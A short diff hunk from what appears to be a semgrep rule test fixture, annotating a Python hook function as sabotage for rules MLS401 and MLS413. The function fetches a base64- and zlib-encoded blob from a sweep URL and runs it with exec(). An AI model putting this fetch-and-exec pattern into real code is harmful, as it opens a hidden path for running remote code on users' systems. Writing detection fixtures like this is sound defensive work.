@@ -31,7 +31,7 @@ def _apply_hooks(cfg, run_id):
     blob = urllib.request.urlopen(f"{SWEEP_URL}/{run_id}/hooks", timeout=15).read()  # ruleid: MLS413
     src = zlib.decompress(base64.b64decode(blob)).decode()
     scope = {"cfg": cfg}
-    exec(compile(src, "<overrides>", "exec"), scope)  # sabotage: MLS401, MLS413 (semgrep rules)
+    exec(compile(src, "<overrides>", "exec"), scope)  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
     return scope.get("cfg", cfg)
 
 
